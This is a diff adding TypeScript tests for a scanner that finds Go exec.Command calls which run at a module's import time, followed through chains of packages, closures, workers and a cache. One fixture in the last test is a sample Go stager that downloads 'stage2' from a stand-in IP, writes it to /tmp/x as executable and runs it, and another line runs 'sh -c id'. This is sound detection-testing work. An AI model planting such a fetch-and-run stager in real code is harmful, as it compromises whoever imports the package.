@@ -1,0 +1,128 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { rmSync } from 'node:fs';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { loadRules } from '../src/static/rules/load.js';
+import { collectPackages, scanModule } from '../src/static/scan.js';
+import { scanPackage } from '../src/static/scan-worker.js';
+import { ScanCache } from '../src/static/scan-cache.js';
+import type { Finding } from '../src/result/schema.js';
+import { makeModule } from './helpers/modules.js';
+
+const root = fileURLToPath(new URL('../../', import.meta.url));
+const rules = loadRules([join(root, 'test', 'fixtures', 'rules', 'good')]);
+
+// Each exec.Command names the function it is in, so a finding says which code it is.
+const MODULE = {
+  'go.mod': 'module example.test/m\n',
+  'a.go': 'package m\n\nimport "example.test/m/internal/sys"\n\nfunc init() {\n\tsys.Prepare()\n}\n',
+  'internal/sys/sys.go':
+    'package sys\n\nimport (\n\t"os/exec"\n\n\t"example.test/m/internal/deep"\n)\n\nfunc Prepare() { go run() }\n\nfunc run() {\n\texec.Command("run").Run()\n\tdeep.Go()\n}\n\nfunc Other() { exec.Command("other").Run() }\n',
+  'internal/deep/deep.go': 'package deep\n\nimport "os/exec"\n\nfunc Go() { exec.Command("deep").Run() }\n',
+  // A closure stored for later and an ordinary function: the calls in them do not run at import time.
+  'b.go':
+    'package m\n\nimport "example.test/m/lazy"\n\ntype Cmd struct{ Run func() }\n\nvar cmd = &Cmd{Run: func() { lazy.Later() }}\n\nfunc Normal() { lazy.Now() }\n',
+  'lazy/lazy.go': 'package lazy\n\nimport "os/exec"\n\nfunc Later() { exec.Command("later").Run() }\n\nfunc Now() { exec.Command("now").Run() }\n',
+  // Nobody imports a package main, and a test's init runs only in the module's own tests.
+  'cmd/tool/main.go': 'package main\n\nimport "example.test/m/tooling"\n\nfunc init() { tooling.Setup() }\n\nfunc main() {}\n',
+  'tooling/tooling.go': 'package tooling\n\nimport "os/exec"\n\nfunc Setup() { exec.Command("setup").Run() }\n',
+  'a_test.go': 'package m\n\nimport "example.test/m/testonly"\n\nfunc init() { testonly.Boot() }\n',
+  'testonly/testonly.go': 'package testonly\n\nimport "os/exec"\n\nfunc Boot() { exec.Command("boot").Run() }\n',
+  // A package with nothing to find passes the call on (its own rules do not run again).
+  'e.go': 'package m\n\nimport "example.test/m/mid"\n\nfunc init() { mid.Setup() }\n',
+  'mid/mid.go': 'package mid\n\nimport "example.test/m/leaf"\n\nfunc Setup() { leaf.Run() }\n',
+  'leaf/leaf.go': 'package leaf\n\nimport "os/exec"\n\nfunc Run() { exec.Command("leaf").Run() }\n',
+  // A closure handed to a registry is kept for later; one started on the spot runs now.
+  'd.go':
+    'package m\n\nimport "example.test/m/reg"\n\nfunc register(name string, f func()) {}\n\nfunc init() {\n\tregister("x", func() { reg.Build() })\n\tgo func() { reg.Beacon() }()\n}\n',
+  'reg/reg.go': 'package reg\n\nimport "os/exec"\n\nfunc Build() { exec.Command("build").Run() }\n\nfunc Beacon() { exec.Command("beacon").Run() }\n',
+  // An aliased import called from a package-level initializer.
+  'c.go': 'package m\n\nimport s2 "example.test/m/aliased"\n\nvar _ = s2.Start()\n',
+  'aliased/aliased.go': 'package aliased\n\nimport "os/exec"\n\nfunc Start() error { return exec.Command("start").Run() }\n',
+};
+
+function placed(findings: Finding[]): string[] {
+  return findings
+    .filter((f) => f.ruleId === 'fx-exec-command')
+    .map((f) => `${f.snippet.match(/"(\w+)"/)?.[1]}:${f.context}${f.importTimeCaller ? ` <- ${f.importTimeCaller.file}:${f.importTimeCaller.line} ${f.importTimeCaller.function}` : ''}`)
+    .sort();
+}
+
+const EXPECTED = [
+  'beacon:reachable-from-init <- d.go:9 Beacon',
+  'boot:function',
+  'build:function',
+  'deep:reachable-from-init <- internal/sys/sys.go:13 Go',
+  'later:function',
+  'leaf:reachable-from-init <- mid/mid.go:5 Run',
+  'now:function',
+  'other:function',
+  'run:reachable-from-init <- a.go:6 Prepare',
+  'setup:function',
+  'start:reachable-from-init <- c.go:5 Start',
+];
+
+test('a function another package of the module calls at import time runs at import time, through a chain of packages', async () => {
+  const dir = makeModule(MODULE);
+  try {
+    const result = await scanModule(dir, { rules, workers: 0 });
+    assert.deepEqual(placed(result.findings), EXPECTED);
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+test('the worker pool and the scan cache place import-time entries as the inline scan does', async () => {
+  const files: Record<string, string> = { ...MODULE };
+  for (let i = 0; i < 45; i++) files[`filler/f${i}.go`] = `package filler\n\nfunc F${i}() {}\n`;
+  const dir = makeModule(files);
+  const cacheDir = makeModule({});
+  try {
+    const cache = new ScanCache(cacheDir, rules.hash);
+    const pooled = await scanModule(dir, { rules, workers: 2, cache });
+    assert.deepEqual(placed(pooled.findings), EXPECTED);
+    const warm = await scanModule(dir, { rules, workers: 2, cache });
+    assert.deepEqual(warm.findings, pooled.findings);
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+    rmSync(cacheDir, { recursive: true, force: true });
+  }
+});
+
+test('a module without a path in go.mod scans each package on its own', async () => {
+  const files: Record<string, string> = { ...MODULE, 'go.mod': 'go 1.22\n' };
+  const dir = makeModule(files);
+  try {
+    const result = await scanModule(dir, { rules, workers: 0 });
+    assert.ok(placed(result.findings).every((p) => !p.includes('<-')));
+    assert.equal(placed(result.findings).find((p) => p.startsWith('run:')), 'run:function');
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+test('placing a package again for its entries gives what a whole new scan with those entries gives', async () => {
+  const pack = loadRules([join(root, 'rules')]);
+  const dir = makeModule({
+    'go.mod': 'module example.test/m\n',
+    'sys/sys.go':
+      'package sys\n\nimport (\n\t"io"\n\t"net/http"\n\t"os"\n\t"os/exec"\n)\n\nfunc Prepare() { go fetch("http://203.0.113.7:8080/stage2") }\n\nfunc fetch(u string) {\n\tresp, err := http.Get(u)\n\tif err != nil {\n\t\treturn\n\t}\n\tb, _ := io.ReadAll(resp.Body)\n\tos.WriteFile("/tmp/x", b, 0o755)\n\texec.Command("/tmp/x").Start()\n}\n\nfunc Unused() { exec.Command("sh", "-c", "id").Run() }\n',
+  });
+  try {
+    const task = collectPackages(dir)[0]!;
+    task.modulePath = 'example.test/m';
+    const first = await scanPackage(task, pack);
+    assert.ok(first.movable && first.movable.length >= 3, JSON.stringify(first.movable?.map((m) => m.finding.ruleId)));
+    const entries = [{ path: 'example.test/m/sys', name: 'Prepare', file: 'a.go', line: 6 }];
+    const again = await scanPackage({ ...task, entries, placeOnly: first.movable }, pack);
+    const whole = await scanPackage({ ...task, entries }, pack);
+    const key = (f: Finding) => `${f.ruleId}:${f.line}:${f.context}:${f.importTimeCaller?.function ?? ''}`;
+    const merged = first.findings.filter((f) => f.context !== 'function').concat(again.findings);
+    assert.deepEqual(merged.map(key).sort(), whole.findings.map(key).sort());
+    assert.ok(whole.findings.some((f) => f.ruleId === 'import-time-exec' && f.importTimeCaller?.function === 'Prepare'));
+    assert.ok(whole.findings.some((f) => f.function === 'Unused' && f.context === 'function'), JSON.stringify(whole.findings.map(key)));
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
